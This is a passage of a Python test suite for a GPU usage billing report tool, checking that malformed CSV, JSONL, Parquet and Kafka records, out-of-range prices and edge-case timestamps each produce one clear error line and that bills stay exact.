    day.mkdir(parents=True)
    if kind.startswith("fifo"):
        os.mkfifo(path)
    elif kind == "folder-part":
        path.mkdir()
    given = tmp_path / "pq" if flag == "--parquet" else path
    proc = hami("report", *SPAN, flag, given, timeout=60)
    assert (proc.returncode, proc.stdout, proc.stderr) == (
        1,
        "",
        f"hami-usage report: {path}: {why}\n",
    )


def test_outputs_named_by_symlinks_are_written_where_they_point(tmp_path: Path) -> None:
    """The link was replaced by a file of its own, and what it named left as it was."""
    (tmp_path / "out").mkdir()
    for name in ("bill.csv", "page.html"):
        (tmp_path / "out" / name).write_text("old\n")
        (tmp_path / name).symlink_to(Path("out") / name)
    proc = hami("report", *SPAN, "--csv", _billing_csv(tmp_path),
                "--out-csv", tmp_path / "bill.csv", "--html", tmp_path / "page.html")  # fmt: skip
    assert proc.returncode == 0, proc.stderr
    for name in ("bill.csv", "page.html"):
        assert (tmp_path / name).is_symlink()
        assert (tmp_path / "out" / name).read_text() != "old\n"
    assert (tmp_path / "out" / "bill.csv").read_text().startswith("kind,")
    assert sorted(os.listdir(tmp_path / "out")) == ["bill.csv", "page.html"]


# --- what tenants and damaged files can put into a report ------------------------------------

T0 = 1_767_225_600_000  # 2026-01-01T00:00:00Z, inside SPAN


def _window(uuid: str, model: str = "NVIDIA H100", alloc_ms: int = 60_000) -> list[BillingRecord]:
    """One GPU's minute on node n1: a container allocated `alloc_ms`, the GPU row, the idle row."""

    def rec(kind: str, pod_uid: str, alloc: int, observed: int) -> BillingRecord:
        zero = seconds(0)
        return BillingRecord(
            window_start_ms=T0, window_end_ms=T0 + 60_000, node="n1", pod_uid=pod_uid,
            container="c" if pod_uid else "", device_uuid=uuid, memory_byte_seconds=zero,
            memory_limit_byte_seconds=zero, nvml_memory_byte_seconds=zero,
            sm_percent_seconds=zero, sm_limit_percent_seconds=zero, peak_memory_bytes=0,
            observed_seconds=seconds(observed), samples=1,
            record_id=make_record_id(T0, "n1", pod_uid, "c", uuid, 0, kind),
            namespace="ns" if pod_uid else "", kind=kind, gpu_model=model,
            allocated_gpu_seconds=seconds(alloc), used_gpu_seconds=seconds(alloc // 2),
        )  # fmt: skip

    return [
        rec("container", "u1", alloc_ms, 0),
        rec("gpu", "", alloc_ms, 60_000),
        rec("idle", "", 60_000 - alloc_ms, 0),
    ]


def test_parts_with_different_namespaces_are_grouped_together(tmp_path: Path) -> None:
    """Each part the sink writes has string dictionaries of its own: two parts with different
    namespaces stopped the report's group-by with a traceback."""
    sink = ParquetSink(tmp_path / "pq")
    sink.write(_window("GPU-1"))
    other = [
        msgspec.structs.replace(r, namespace="other") if r.kind == "container" else r
        for r in _window("GPU-2", alloc_ms=30_000)
    ]
    sink.write(other)
    sink.close()
    out = tmp_path / "bill.csv"
    proc = hami("report", *SPAN, "--parquet", tmp_path / "pq", "--by", "namespace",
                "--out-csv", out)  # fmt: skip
    assert proc.returncode == 0, proc.stderr
    rows = {r["namespace"]: r["gpu_hours_allocated"] for r in csv.DictReader(out.open())
            if r["kind"] == "group"}  # fmt: skip
    assert rows == {"ns": "0.016667", "other": "0.008333"}


def _page(records: list[BillingRecord], prices: str = "") -> str:
    summary = Summary(["namespace"], HOUR_MS, [])
    summary.add(to_table(records, TIMES))
    return render(make_bill(summary, Prices.parse(prices)), summary, "t")


def test_html_labels_with_dollar_signs_are_drawn_as_written() -> None:
    """A device UUID is GPU- and printable ASCII (layout/reader.py), written by the tenant:
    `$...$` in it was parsed as TeX, and its error lost the whole page."""
    page = _page(_window("GPU-$\\x$abc"))
    assert page.count(">n1 GPU-$\\x$abc</text>") == 1


def test_a_group_whose_name_begins_with_an_underscore_has_its_legend_entry(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """matplotlib leaves out of a legend a label that begins with `_`: such a group's bars
    were drawn in the over-time chart and named nowhere."""
    figs: list[Any] = []
    monkeypatch.setattr(html_report, "_svg", lambda fig: figs.append(fig) or "")
    records = [
        msgspec.structs.replace(r, namespace="_batch") if r.pod_uid else r
        for r in _window("GPU-a") + _window("GPU-b")
    ]
    records += [r for r in _window("GPU-c") if r.pod_uid]
    _page(records)
    (over_time,) = [f for f in figs if "over time" in f.axes[0].get_title()]
    shown = [t.get_text() for t in over_time.axes[0].get_legend().get_texts()]
    assert sorted(t.lstrip("\u200b") for t in shown) == ["_batch", "ns"]
    assert len(over_time.axes[0].patches) == len(shown)  # one bar each (one hour)


def test_the_idle_chart_draws_each_gpu_under_its_own_label(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """MIG instances of one GPU share their first 12 characters and more: each is a bar of its
    own, labelled with its whole UUID (they were one bar)."""
    figs: list[Any] = []
    monkeypatch.setattr(html_report, "_svg", lambda fig: figs.append(fig) or "")
    parent = "MIG-GPU-e91edf3b-b297-37c1-a2a7-7601c3238fa2"
    records = [
        *_window(f"{parent}/1/0", alloc_ms=60_000),  # 0 % idle
        *_window(f"{parent}/2/0", alloc_ms=6_000),  # 90 % idle
        *_window(f"{parent}/3/0", alloc_ms=0),  # 100 % idle
        *_window("GPU-1", model="", alloc_ms=30_000),  # the same GPU before its inventory
        *_window("GPU-1", alloc_ms=45_000),
    ]
    _page(records)
    ax = figs[-1].axes[0]
    assert ax.get_title() == "Idle share per GPU (5 GPUs)"
    assert [t.get_text() for t in ax.get_yticklabels()] == [
        f"n1 {parent}/1/0",
        "n1 GPU-1 (NVIDIA H100)",
        "n1 GPU-1 (no model)",
        f"n1 {parent}/2/0",
        f"n1 {parent}/3/0",
    ]
    assert [round(p.get_width(), 9) for p in ax.patches] == [0, 25, 50, 90, 100]
    assert [p.get_y() + p.get_height() / 2 for p in ax.patches] == [0, 1, 2, 3, 4]


def test_the_reconciliation_shows_each_price_as_prices_toml_states_it() -> None:
    records = _window("GPU-a", "A") + _window("GPU-b", "B") + _window("GPU-c", "C")
    records += _window("GPU-d", "D")
    page = _page(records, "default = 1.20\n[models]\nA = 1.255\nB = 0.125\nC = 0.004\n")
    table = page[page.index('<table class="reconciliation">') :]
    rows = re.findall(r"<tr><td>(.*?)</td></tr>", table[: table.index("</table>")])
    # model, observed, allocated, idle, balanced, price, observed cost
    assert [r.split("</td><td>")[::5] for r in rows] == [
        ["A", "1.255"],
        ["B", "0.125"],
        ["C", "0.004"],
        ["D", "1.20"],
    ]
    assert [r.split("</td><td>")[6] for r in rows] == ["0.02", "0.00", "0.00", "0.02"]


@pytest.mark.parametrize(
    "text, message",
    [
        ("default = 1e999999999", "default"),  # the bill's Fractions of it never ended
        ("[models]\nA = 1e31", "models.'A'"),
        ("[models]\nA = 1e-31", "models.'A'"),
        ("[namespaces]\nresearch = 2e40", "namespaces.research"),
    ],
)
def test_a_price_out_of_range_is_refused(text: str, message: str) -> None:
    with pytest.raises(PriceError) as caught:
        Prices.parse(text)
    assert str(caught.value) == (
        f"prices: {message}: out of range: the exponent must lie within ±30 (1e-30 up to "
        "below 1e31)"
    )


def test_prices_at_the_ends_of_the_range_are_taken() -> None:
    p = Prices.parse("default = 9.99e30\n[models]\nA = 1e-30\n")
    assert (p.default, p.price("A")) == (Decimal("9.99e30"), Decimal("1e-30"))


def test_adjustments_and_shown_figures_are_exact_at_the_ends_of_the_range() -> None:
    """In Decimal's 28 digits 1 + 1e-30 was 1 (the adjustment lost), GPU-hours beyond 28
    digits lost their decimals, and an efficiency beyond them raised InvalidOperation."""
    p = Prices.parse("[namespaces]\nx = 1e-30\n[labels.team]\nv = 9e30\n")
    assert p.factor("x", {"team": "v"}) == (1 + Fraction(1, 10**30)) * (1 + 9 * 10**30)
    assert hours(7_200_000 * 10**30 + 3_600) == Decimal("2" + "0" * 30 + ".001000")
    line = Line("group", ("a",), 3, 10**30, 0.0, Fraction(0), Fraction(0))
    assert line.efficiency == Decimal("3" * 30 + ".3333")
    assert money(Fraction(10**40 + 1, 200)) == Decimal("5" + "0" * 37 + ".00")  # half-even


def test_a_huge_price_is_one_line_and_exit_2(tmp_path: Path) -> None:
    path = tmp_path / "in.csv"
    path.write_text(_csv_text(_window("GPU-1")))
    (tmp_path / "prices.toml").write_text("default = 1e999999999\n")
    proc = hami("report", *SPAN, "--csv", path, "--prices", tmp_path / "prices.toml", timeout=60)
    assert (proc.returncode, proc.stdout, proc.stderr) == (
        2,
        "",
        f"hami-usage report: prices {tmp_path / 'prices.toml'}: default: out of range: the "
        "exponent must lie within ±30 (1e-30 up to below 1e31)\n",
    )


def _csv_text(records: list[BillingRecord]) -> str:
    buf = io.StringIO()
    out = csv.writer(buf, lineterminator="\n")
    out.writerow(csv_header())
    out.writerows(csv_row(r) for r in records)
    return buf.getvalue()


OUT_OF_RANGE = f"a number outside [0, {(1 << 63) - 1}] (seconds in milli-units)"
NOT_FINITE = "allocated_gpu_seconds is not a finite number"
KIND_NOT_KNOWN = "kind 'bogus' is not one of node, gpu, idle, container"


@pytest.mark.parametrize(
    "column, cell, message",
    [
        ("allocated_gpu_seconds", "nan", NOT_FINITE),
        ("allocated_gpu_seconds", "inf", NOT_FINITE),
        ("allocated_gpu_seconds", "-Infinity", NOT_FINITE),
        # a traceback from Arrow's cast to integer milliseconds
        ("allocated_gpu_seconds", "1e400", OUT_OF_RANGE),
        ("allocated_gpu_seconds", "1e999999999", OUT_OF_RANGE),
        ("allocated_gpu_seconds", "-60.000", OUT_OF_RANGE),  # a negative bill, exit 0
        ("kind", "bogus", KIND_NOT_KNOWN),  # dropped from every total, exit 0
        # each billed as if it were right, exit 0
        ("overcommitted", "maybe", "overcommitted 'maybe' is not true or false"),
        ("window_end", "2026-01-01T00:00:00Z", "window_end is not after window_start"),
        ("record_id", "", "record_id is empty"),
    ],
)
def test_a_csv_value_no_record_can_hold_is_one_line_and_exit_1(
    tmp_path: Path, column: str, cell: str, message: str
) -> None:
    rows = [csv_row(r) for r in _window("GPU-1")]
    rows[1][list(CSV_FIELDS).index(column)] = cell
    path = tmp_path / "in.csv"
    with path.open("w", newline="") as f:
        csv.writer(f, lineterminator="\n").writerows([csv_header(), *rows])
    proc = hami("report", *SPAN, "--csv", path)
    expected = f"hami-usage report: {path}:3: not a billing record: {message}\n"
    assert (proc.returncode, proc.stdout, proc.stderr) == (1, "", expected)


@pytest.mark.parametrize(
    "value, message",
    [("NaN", NOT_FINITE), ("Infinity", NOT_FINITE), (-1.0, OUT_OF_RANGE), (1e300, OUT_OF_RANGE)],
)
def test_a_jsonl_number_no_record_can_hold_is_one_line_and_exit_1(
    tmp_path: Path, value: object, message: str
) -> None:
    lines = [msgspec.json.decode(jsonl_line(r)) for r in _window("GPU-1")]
    lines[0]["allocated_gpu_seconds"] = value
    path = tmp_path / "in.jsonl"
    path.write_bytes(b"".join(msgspec.json.encode(x) + b"\n" for x in lines))
    proc = hami("report", *SPAN, "--jsonl", path)
    expected = f"hami-usage report: {path}:1: not a billing record: {message}\n"
    assert (proc.returncode, proc.stdout, proc.stderr) == (1, "", expected)


def test_jsonl_records_from_before_kinds_and_allocation_are_refused(tmp_path: Path) -> None:
    """The first records had no kind, no allocation and no version: read with the fields'
    defaults they were `container` records with 0 GPU-seconds allocated, an empty bill with
    exit 0. As their CSV (no kind column), they are refused with one line."""
    first = [
        "kind", "gpu_model", "gpu_memory_bytes", "allocated_gpu_seconds", "used_gpu_seconds",
        "overcommitted", "reserved_idle_gpu_seconds", "version",
    ]  # fmt: skip
    lines = [msgspec.json.decode(jsonl_line(r)) for r in _window("GPU-1")]
    path = tmp_path / "in.jsonl"
    path.write_bytes(
        b"".join(
            msgspec.json.encode({k: v for k, v in x.items() if k not in first}) + b"\n"
            for x in lines
        )
    )
    proc = hami("report", *SPAN, "--jsonl", path)
    expected = (
        f"hami-usage report: {path}:1: not a billing record: Object missing required field `kind`\n"
    )
    assert (proc.returncode, proc.stdout, proc.stderr) == (1, "", expected)


def _jsonl_of(tmp_path: Path, change: Any) -> Path:
    """A JSONL file of a window's records, the first changed by `change(obj)`."""
    lines = [msgspec.json.decode(jsonl_line(r)) for r in _window("GPU-1")]
    change(lines[0])
    path = tmp_path / "in.jsonl"
    path.write_bytes(b"".join(msgspec.json.encode(x) + b"\n" for x in lines))
    return path


@pytest.mark.parametrize(
    "change, message",
    [
        # a version 2 record without its version's field: billed as 0 reserved-idle, exit 0
        (lambda x: x.update(version=2) or x.pop("reserved_idle_gpu_seconds"),
         "Object missing required field "
         "`reserved_idle_gpu_seconds`"),
        # a field every version carries: the record was billed with samples 0, exit 0
        (lambda x: x.update(version=2) or x.pop("samples"),
         "Object missing required field `samples`"),
        (lambda x: x.update(version=3), "version 3 is not one of 1 to 2"),
        (lambda x: x.update(version=0), "version 0 is not one of 1 to 2"),
        # beyond int64: a traceback from Arrow (OverflowError)
        (lambda x: x.update(version=2**63), f"version {2**63} is not one of 1 to 2"),
        # a kind no writer sends: the record was dropped from the bill unsaid
        (lambda x: x.update(kind="bogus"), KIND_NOT_KNOWN),
    ],
    ids=["v2-without-reserved-idle", "without-samples", "version-3", "version-0",
         "version-2**63", "unknown-kind"],
)  # fmt: skip
def test_a_jsonl_record_its_writer_could_not_have_sent_is_one_line_and_exit_1(
    tmp_path: Path, change: Any, message: str
) -> None:
    path = _jsonl_of(tmp_path, change)
    proc = hami("report", *SPAN, "--jsonl", path)
    expected = f"hami-usage report: {path}:1: not a billing record: {message}\n"
    assert (proc.returncode, proc.stdout, proc.stderr) == (1, "", expected)


def test_a_billing_message_is_checked_against_its_version_as_a_line_is() -> None:
    record = msgspec.structs.replace(_window("GPU-1")[0], version=2)
    as_map = msgspec.structs.asdict(record)
    assert from_msgpack(msgspec.msgpack.encode(as_map)) == record
    del as_map["reserved_idle_gpu_seconds"]
    with pytest.raises(msgspec.ValidationError, match="`reserved_idle_gpu_seconds`"):
        from_msgpack(msgspec.msgpack.encode(as_map))
    as_map["version"] = 1  # a version 1 record did not carry it
    assert from_msgpack(msgspec.msgpack.encode(as_map)).reserved_idle_gpu_seconds == 0
    with pytest.raises(ValueError, match=KIND_NOT_KNOWN):
        from_msgpack(msgspec.msgpack.encode({**as_map, "kind": "bogus"}))


NULL = "allocated_gpu_seconds is null"
LABELS = pa.map_(pa.string(), pa.string())
RESERVED_IDLE_NULL = "reserved_idle_gpu_seconds is null"


def _damaged_parquet(pipeline: Path, tmp_path: Path, column: str, values: pa.Array) -> Path:
    """A copy of the pipeline's Parquet folder whose first part has `column` set to `values`
    (one per row; cycled)."""
    copy = tmp_path / "pq"
    shutil.copytree(pipeline / "pq", copy)
    part = sorted(copy.glob("day=2026-03-02/part-*.parquet"))[0]
    table = pq.read_table(part)
    n = table.num_rows
    column_values = pa.concat_arrays([values] * (n // len(values) + 1)).slice(0, n)
    table = table.set_column(table.schema.get_field_index(column), column, column_values)
    pq.write_table(table, part)
    return part


def test_an_empty_record_id_in_parquet_read_beside_a_file_is_one_line_and_exit_1(
    pipeline: Path, tmp_path: Path
) -> None:
    """With another input the Parquet ids are read (a record in both is billed once): every
    record of no id was taken for one record, the rest dropped, exit 0."""
    part = _damaged_parquet(pipeline, tmp_path, "record_id", pa.array(["x", ""]))
    other = tmp_path / "other.csv"
    with other.open("w", newline="") as f:
        start = iso_ms(RANGE[1])  # (in the range: the report keeps the ids of what it bills)
        records = [
            msgspec.structs.replace(r, window_start_ms=start, window_end_ms=start + 60_000)
            for r in _window("G")
        ]
        csv.writer(f, lineterminator="\n").writerows([csv_header(), *map(csv_row, records)])
    proc = hami("report", *RANGE, "--parquet", tmp_path / "pq", "--csv", other)
    expected = f"hami-usage report: {part}: not a billing record: record_id is empty\n"
    assert (proc.returncode, proc.stdout, proc.stderr) == (1, "", expected)


@pytest.mark.parametrize(
    "column, values, message",
    [
        ("allocated_gpu_seconds", pa.array([float("nan")]), NOT_FINITE),
        ("allocated_gpu_seconds", pa.array([1.0, float("inf")]), NOT_FINITE),
        ("allocated_gpu_seconds", pa.array([float("-inf")]), NOT_FINITE),
        ("allocated_gpu_seconds", pa.array([1.0, -60.0]), OUT_OF_RANGE),  # a negative bill
        ("allocated_gpu_seconds", pa.array([1e300]), OUT_OF_RANGE),
        # the double after the one the sink writes for 2^63 - 1 milliseconds
        ("allocated_gpu_seconds", pa.array([math.nextafter(2**63 / 1000, math.inf)]), OUT_OF_RANGE),
        ("allocated_gpu_seconds", pa.array([1.0, None], pa.float64()), NULL),
        ("observed_seconds", pa.array([float("inf")]), "observed_seconds is not a finite number"),
        ("memory_byte_seconds", pa.array([-1.0]), OUT_OF_RANGE),  # summed, never checked
        ("namespace", pa.array([None], pa.string()), "namespace is null"),
        # a version 2 record measured it: null only where the version predates the field
        ("reserved_idle_gpu_seconds", pa.array([None], pa.float64()), RESERVED_IDLE_NULL),
        ("version", pa.array([2, 3], pa.int64()), "a version not one of 1 to 2"),
        ("version", pa.array([0], pa.int64()), "a version not one of 1 to 2"),
        ("kind", pa.array(["bogus"]), "a kind not one of node, gpu, idle, container"),
        # a TypeError from the bill, or a line of team "(unnamed)"
        ("labels", pa.array([[("team", None)]], LABELS), "a label's value is null"),
    ],
    ids=[
        "nan", "inf", "-inf", "negative", "1e300", "above-2**63-milli", "null", "inf-observed",
        "negative-memory", "null-string", "null-v2-reserved-idle", "version-3", "version-0",
        "unknown-kind", "null-label-value",
    ],
)  # fmt: skip
def test_a_parquet_number_no_record_can_hold_is_one_line_and_exit_1(
    pipeline: Path, tmp_path: Path, column: str, values: pa.Array, message: str
) -> None:
    """As a CSV or JSONL record's: a negative number was a wrong bill with exit 0, NaN,
    infinity and null a traceback."""
    part = _damaged_parquet(pipeline, tmp_path, column, values)
    proc = hami("report", *RANGE, "--parquet", tmp_path / "pq")
    expected = f"hami-usage report: {part}: not a billing record: {message}\n"
    assert (proc.returncode, proc.stdout, proc.stderr) == (1, "", expected)


NOT_PARQUET = (
    "Parquet magic bytes not found in footer. Either the file is corrupted or this is not a "
    "parquet file."
)


@pytest.mark.parametrize(
    "damage, message",
    [
        (lambda part: part.write_bytes(b""), "Parquet file size is 0 bytes"),
        (lambda part: part.write_bytes(b"PAR1 not really"), NOT_PARQUET),
        (lambda part: part.write_bytes(part.read_bytes()[:-100]), NOT_PARQUET),  # cut short
        (
            lambda part: pq.write_table(
                pq.read_table(part).set_column(
                    0, "window_start_ms", pa.array(["x"] * pq.read_metadata(part).num_rows)
                ),
                part,
            ),
            "window_start_ms is string, not int64",
        ),
        (
            lambda part: pq.write_table(
                pq.read_table(part).drop_columns(["window_start_ms"]), part
            ),
            "no window_start_ms",
        ),
    ],
    ids=["zero-length", "not-parquet", "truncated", "wrong-type", "no-window-start"],
)
def test_a_damaged_parquet_part_is_one_line_and_exit_1(
    pipeline: Path, tmp_path: Path, damage: Any, message: str
) -> None:
    """README: an unreadable input is one line naming it, exit 1 (each once a traceback)."""
    copy = tmp_path / "pq"
    shutil.copytree(pipeline / "pq", copy)
    part = sorted(copy.glob("day=2026-03-02/part-*.parquet"))[0]
    damage(part)
    proc = hami("report", *RANGE, "--parquet", copy)
    expected = f"hami-usage report: {part}: not a billing record Parquet file: {message}\n"
    assert (proc.returncode, proc.stdout, proc.stderr) == (1, "", expected)


def _parts_of(pipeline: Path, tmp_path: Path, n: int) -> list[Path]:
    """A copy of the pipeline's Parquet folder with its records cut into `n` parts, in order,
    as an aggregator writes a part per close."""
    copy = tmp_path / "pq"
    day = copy / "day=2026-03-02"
    day.mkdir(parents=True)
    table = pa.concat_tables(
        pq.read_table(p) for p in sorted((pipeline / "pq").glob("day=*/part-*.parquet"))
    )
    step = -(-table.num_rows // n)
    parts = [day / f"part-0-{k:010d}.parquet" for k in range(n)]
    for k, part in enumerate(parts):
        pq.write_table(table.slice(k * step, step), part)
    return parts


def test_many_small_parts_give_the_same_bill_as_few(pipeline: Path, tmp_path: Path) -> None:
    """Parts are read one by one and checked a table at a time: 40 parts, the bill of 2."""
    _parts_of(pipeline, tmp_path, 40)
    assert report(pipeline, "--parquet", tmp_path / "pq", "--by", "pod") == report(
        pipeline, "--parquet", pipeline / "pq", "--by", "pod"
    )


def test_a_range_of_centuries_reads_the_day_folders_there_are(pipeline: Path) -> None:
    wide = ["--from", "0001-01-01T00:00:00Z", "--to", "9999-12-31T23:59:59.999Z"]
    out = pipeline / "wide.csv"
    proc = hami("report", *wide, "--prices", pipeline / "prices.toml", "--out-csv", out,
                "--parquet", pipeline / "pq", "--by", "pod")  # fmt: skip
    assert proc.returncode == 0, proc.stderr
    assert out.read_text() == report(pipeline, "--parquet", pipeline / "pq", "--by", "pod")[1]


def _set_column(part: Path, column: str, value: object) -> None:
    table = pq.read_table(part)
    values = pa.array([value] * table.num_rows, table.schema.field(column).type)
    pq.write_table(table.set_column(table.schema.get_field_index(column), column, values), part)


def test_the_first_part_at_fault_is_named_among_parts_read_together(
    pipeline: Path, tmp_path: Path
) -> None:
    """The numbers of many parts are checked at once: the one named is still the first part
    that holds such a number, and it is named before a later part's damage."""
    parts = _parts_of(pipeline, tmp_path, 10)
    _set_column(parts[6], "allocated_gpu_seconds", -1.0)
    _set_column(parts[8], "used_gpu_seconds", float("nan"))
    proc = hami("report", *RANGE, "--parquet", tmp_path / "pq")
    expected = f"hami-usage report: {parts[6]}: not a billing record: {OUT_OF_RANGE}\n"
    assert (proc.returncode, proc.stdout, proc.stderr) == (1, "", expected)
    parts[9].write_bytes(b"PAR1 not really")  # a damaged part after them: still part 6
    proc = hami("report", *RANGE, "--parquet", tmp_path / "pq")
    assert (proc.returncode, proc.stdout, proc.stderr) == (1, "", expected)
    _set_column(parts[6], "allocated_gpu_seconds", 1.0)
    _set_column(parts[8], "used_gpu_seconds", 1.0)
    proc = hami("report", *RANGE, "--parquet", tmp_path / "pq")
    expected = f"hami-usage report: {parts[9]}: not a billing record Parquet file: {NOT_PARQUET}\n"
    assert (proc.returncode, proc.stdout, proc.stderr) == (1, "", expected)


def test_a_billing_message_no_record_can_hold_is_refused_with_its_offset(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """The billing topic's values decode as the files' do: NaN and negatives are refused."""
    good, bad = _window("GPU-1")[:2]
    bad = msgspec.structs.replace(bad, used_gpu_seconds=Decimal("-1.000"))

    class Reading:
        async def batches(self) -> Any:
            yield [SimpleNamespace(value=to_json(good), partition=0, offset=7)]
            yield [SimpleNamespace(value=to_msgpack(bad), partition=2, offset=8)]

    @contextlib.asynccontextmanager
    async def read_range(*_: object) -> Any:
        yield Reading()

    monkeypatch.setattr(consumer, "read_range", read_range)
    args = ReportArgs(T0, T0 + HOUR_MS, ["namespace"], Prices(), [], [], kafka=object())  # type: ignore[arg-type]
    with pytest.raises(LoadError) as caught:
        make_report(args)
    assert str(caught.value) == (
        f"hami.billing.v1 partition 2 offset 8: not a billing record: {OUT_OF_RANGE}"
    )


def test_a_csv_time_without_an_offset_is_utc_whatever_the_local_zone(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("TZ", "Asia/Tokyo")
    time.tzset()
    try:
        assert time.localtime(0).tm_hour == 9  # the zone took effect
        assert iso_ms("2026-01-01T00:00:00") == T0
        assert iso_ms("2026-01-01T00:00:00.250") == T0 + 250
        assert iso_ms("2026-01-01T09:00:00+09:00") == T0
        assert iso_ms("2026-01-01T00:00:00Z") == T0
    finally:
        monkeypatch.undo()
        time.tzset()


def _allocations(*alloc_ms: int) -> list[BillingRecord]:
    """One container record per value, each allocated that many milliseconds (no GPU rows)."""
    first = _window("GPU-1")[0]
    return [
        msgspec.structs.replace(
            first,
            pod_uid=f"u{i}",
            allocated_gpu_seconds=seconds(ms),
            used_gpu_seconds=seconds(0),
            record_id=make_record_id(T0, "n1", f"u{i}", "c", "GPU-1"),
        )
        for i, ms in enumerate(alloc_ms)
    ]


def _kafka_bill(monkeypatch: pytest.MonkeyPatch, records: list[BillingRecord]) -> Bill:
    """`make_report` over the billing topic holding `records` (read_range stood in for)."""

    class Reading:
        async def batches(self) -> Any:
            yield [SimpleNamespace(value=to_msgpack(r), partition=0, offset=i)
                   for i, r in enumerate(records)]  # fmt: skip

    @contextlib.asynccontextmanager
    async def read_range(*_: object) -> Any:
        yield Reading()

    monkeypatch.setattr(consumer, "read_range", read_range)
    prices = Prices.parse("default = 1")
    args = ReportArgs(T0, T0 + HOUR_MS, ["namespace"], prices, [], [], kafka=object())  # type: ignore[arg-type]
    return make_report(args)[0]


@pytest.mark.parametrize(
    "alloc_ms, hours, cost",
    [
        # 2^63 - 1 ms: a traceback from CSV and JSONL (its double cast to int64), refused from
        # Parquet (compared as 2^63)
        ([(1 << 63) - 1], "2562047788015.215502", "2562047788015.22"),
        # two records of 5e18 ms: an int64 sum that wrapped, a negative bill with exit 0
        ([5 * 10**18, 5 * 10**18], "2777777777777.777778", "2777777777777.78"),
        ([(1 << 63) - 1, 1, (1 << 63) - 1], "5124095576030.431004", "5124095576030.43"),
    ],
    ids=["2**63-1", "two-5e18", "three-past-2**64"],
)
def test_records_at_the_top_of_the_range_are_added_exactly_from_every_input(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, alloc_ms: list[int], hours: str, cost: str
) -> None:
    """README: any number in [0, 2^63 − 1] milli-units is a record's; their sums are exact
    from CSV, JSON Lines, Parquet and the billing topic alike."""
    records = _allocations(*alloc_ms)
    (tmp_path / "b.csv").write_text(_csv_text(records))
    (tmp_path / "b.jsonl").write_bytes(b"".join(jsonl_line(r) for r in records))
    sink = ParquetSink(tmp_path / "pq")
    sink.write(records)
    sink.close()
    (tmp_path / "prices.toml").write_text("default = 1\n")
    expected = (
        "kind,namespace,gpu_model,gpu_hours_allocated,gpu_hours_used,gpu_hours_reserved_idle,"
        "efficiency,memory_gib_hours,cost,currency\n"
        f"group,ns,,{hours},0.000000,0.000000,0.0000,0.000,{cost},USD\n"
        "rounding_residue,,,,,,,,0.00,USD\n"
        f"total,,,{hours},0.000000,0.000000,,,{cost},USD\n"
    )
    for source in ("--csv", "b.csv"), ("--jsonl", "b.jsonl"), ("--parquet", "pq"):
        out = tmp_path / "bill.csv"
        proc = hami("report", *SPAN, source[0], tmp_path / source[1],
                    "--prices", tmp_path / "prices.toml", "--out-csv", out)  # fmt: skip
        assert (proc.returncode, proc.stderr) == (0, ""), source
        assert out.read_text() == expected, source
    bill = _kafka_bill(monkeypatch, records)
    assert bill.total == Fraction(sum(alloc_ms), HOUR_MS)
    assert str(money(bill.total)) == cost


def test_nested_empty_keys_are_named_alike_in_the_terminal_and_on_the_page() -> None:
    """Each --by value is named on its own: the page named the joined key, so two empty
    values read " / ", and an idle row of no GPU model "(unnamed)", not "(no model)"."""
    records = [msgspec.structs.replace(r, namespace="", gpu_model="") for r in _window("GPU-1")]
    summary = Summary(["namespace", "label:team"], HOUR_MS, [])
    summary.add(to_table(records, TIMES))
    bill = make_bill(summary, Prices())
    terminal = [line.split("  ")[0] for line in table_text(bill).splitlines()[1:3]]
    assert terminal == ["(unnamed) / (unnamed)", "idle: (no model)"]
    page = render(bill, summary, "t")
    table = page[page.index('<table class="bill">') :]
    assert re.findall(r"<tr><td>(.*?)</td>", table[: table.index("</table>")])[:2] == terminal
    recon = page[page.index('<table class="reconciliation">') :]
    assert re.findall(r"<tr><td>(.*?)</td>", recon)[0] == "(no model)"
    # the charts' group labels too
    assert page.count(">(unnamed) / (unnamed)</text>") == 2


@pytest.mark.parametrize(
    "text, ms",
    [
        ("2026-01-01T00:00:00Z", T0),
        ("2026-01-01T00:00:00.0004Z", T0 + 1),  # was rounded to the nearest, T0
        ("2026-01-01T00:00:00.001Z", T0 + 1),
        ("2026-01-01T00:00:00.0010000001Z", T0 + 2),  # past the microseconds datetime keeps
        ("2026-01-01T00:00:00.0000000Z", T0),
        ("2026-01-01T09:00:00.0005+09:00", T0 + 1),
        ("2026-01-01", T0),
        ("1969-12-31T23:59:59.9995Z", 0),  # before 1970: still up, towards the later ms
    ],
)
def test_a_time_within_a_millisecond_is_the_next_millisecond(text: str, ms: int) -> None:
    assert iso_ms(text) == ms
    assert args_iso_ms("--from", text, "report") == ms


@pytest.mark.parametrize(
    "span, groups",
    [
        (["--from", "2026-01-01T00:00:00.0004Z", "--to", "2026-01-02"], 0),
        (["--from", "2025-12-31", "--to", "2026-01-01T00:00:00.0004Z"], 1),
        (["--from", "2026-01-01T00:00:00Z", "--to", "2026-01-01T00:00:00.0004Z"], 1),
    ],
)
def test_report_takes_the_windows_starting_in_from_to_at_sub_millisecond_bounds(
    tmp_path: Path, span: list[str], groups: int
) -> None:
    """The window starting at 00:00:00.000 lies before --from 00:00:00.0004 and before
    --to 00:00:00.0004: both were rounded to the nearest millisecond, 00:00:00.000."""
    path = tmp_path / "in.csv"
    path.write_text(_csv_text(_window("GPU-1")))
    out = tmp_path / "bill.csv"
    proc = hami("report", *span, "--csv", path, "--out-csv", out)
    assert (proc.returncode, proc.stderr) == (0, "")
    rows = [r for r in csv.DictReader(out.open()) if r["kind"] == "group"]
    assert [(r["namespace"], r["gpu_hours_allocated"]) for r in rows] == [
        ("ns", "0.016667")
    ] * groups


def test_a_zero_price_or_adjustment_at_any_exponent_is_zero() -> None:
    """0 is in range whatever its exponent: `0e-50` was refused as outside ±30."""
    p = Prices.parse(
        "default = 0e-50\n[models]\nA = 0.0e-99\n[namespaces]\nx = 0e99\n"
        "[labels.team]\nv = -0e-40\n"
    )
    assert (str(p.default), str(p.price("A")), str(p.namespaces["x"])) == ("0", "0", "0")
    assert str(p.labels["team"]["v"]) == "0"
    assert p.factor("x", {"team": "v"}) == 1


def test_a_range_from_before_the_year_1000_reads_the_parquet_day_folders(tmp_path: Path) -> None:
    """A day folder's name is chosen by text comparison: `--from 0300-01-01` was "300-01-01",
    after every "2026-…" folder, and the Parquet bill was empty (exit 0) where the CSV's was
    not."""
    sink = ParquetSink(tmp_path / "pq")
    sink.write(_window("GPU-1"))
    sink.close()
